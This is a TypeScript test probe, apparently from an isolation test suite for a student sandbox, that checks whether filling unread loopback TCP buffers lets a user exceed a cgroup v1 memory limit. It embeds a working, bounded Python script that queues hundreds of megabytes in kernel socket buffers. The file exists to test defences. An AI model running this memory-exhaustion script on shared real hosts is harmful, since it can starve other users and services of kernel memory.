/** Bytes that wait in the buffers of connections. cgroup v1 does not count them as the environment's memory. */
import { whileOtherIsVisited } from '../support/probes/other-visitors.ts';
import { heldIf, type Probe } from '../support/probes/probe.ts';
import type { Scene } from '../support/probes/scene.ts';

/** More than the memory limit of the scene's students; bounded, since these buffers are limited for the whole host. */
const QUEUED_BYTES = 700 * 2 ** 20;
/** The scene's memory limit. */
const MAX_HELD_BYTES = 600 * 2 ** 20;

/** Fills the buffers of connections on loopback that their server never reads. Prints the bytes that the kernel took. */
const ATTACK = `python3 -c '
import socket, sys
server = socket.create_server(("127.0.0.1", 0), backlog=1024)
chunk = b"x" * 65536; queued = 0; full = 0; kept = []
try:
    while queued < ${QUEUED_BYTES} and full < 100 and len(kept) < 12000:
        client = socket.socket(); client.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1048576)
        client.settimeout(2); client.connect(server.getsockname()); kept += [client, server.accept()[0]]
        client.setblocking(False); before = queued
        try:
            while queued < ${QUEUED_BYTES}: queued += client.send(chunk)
        except BlockingIOError: pass
        full = 0 if queued - before >= 65536 else full + 1
        print(queued)
except OSError: print(queued)' 2>/dev/null | tail -n 1`;

async function attack(scene: Scene, run: (script: string) => Promise<string>) {
  const { result, visitors } = await whileOtherIsVisited(scene, () => run(ATTACK));
  const queued = Number(result);
  const megabytes = (bytes: number) => Math.round(bytes / 2 ** 20);
  return heldIf(
    queued < MAX_HELD_BYTES,
    `${megabytes(queued)} MB queued at a memory limit of ${megabytes(MAX_HELD_BYTES)} MB; ${visitors}`,
  );
}

export const probe: Probe = {
  name: 'exhaust-tcp-memory',
  attack: 'a student fills the buffers of connections that their own server never reads',
  runs: 'by-hand',
  knownGap: null,
  run: (scene) => attack(scene, (script) => scene.attacker.runScript(script)),
  runUnprotected: async (scene: Scene) =>
    attack(scene, await scene.containerLikeAttacker({ Memory: 0, MemorySwap: 0 })),
};
